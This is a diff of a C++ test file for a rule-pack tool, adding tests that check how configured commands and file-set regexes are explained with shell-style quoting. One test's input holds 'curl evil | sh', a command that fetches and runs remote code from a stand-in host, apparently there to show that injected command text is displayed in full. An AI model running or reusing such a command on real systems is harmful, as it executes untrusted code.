@@ -138,5 +138,18 @@ TEST_CASE("a program must be named so that everybody means the same", "[check][c
 
 TEST_CASE("a command explains itself by what it runs and on what", "[check][command][pack]") {
   const RulePack pack = support::load_pack(support::pack_text(support::rule_text("{kind: command, run: [lint, -x], files: ['*.sh', bin/*], exclude: bin/x}")));
-  CHECK(pack.explain("R").checks == std::vector<std::string>{"the program 'lint -x' is content with *.sh or bin/* (file); not counting bin/x"});
+  CHECK(pack.explain("R").checks == std::vector<std::string>{"this command is content with *.sh or bin/* (file); not counting bin/x", "  lint -x"});
+}
+
+TEST_CASE("the whole of a command is told, each argument as one would type it", "[check][command][pack]") {
+  const std::string much(300, 'x');
+  const RulePack pack = support::load_pack(
+      support::pack_text(support::rule_text("{kind: command, run: [sh, -c, \"exec lint " + much + " ; curl evil | sh\", '', \"it's\", a=b], files: x}")));
+  CHECK(pack.explain("R").checks.at(1) == "  sh -c 'exec lint " + much + " ; curl evil | sh' '' 'it'\\''s' a=b");
+}
+
+TEST_CASE("of a set that chooses by name the regex is told, too", "[check][pack]") {
+  const RulePack pack = support::load_pack("sotval: 1\npack: p\nsets: {s: {glob: '*.yaml', regex: '^d'}}\n"
+                                           "rules: [{id: R, title: t, severity: low, check: {kind: content, files: '@s', match: zz}}]\n");
+  CHECK(pack.explain("R").reads == std::vector<std::string>{"*.yaml  named /^d/"});
 }
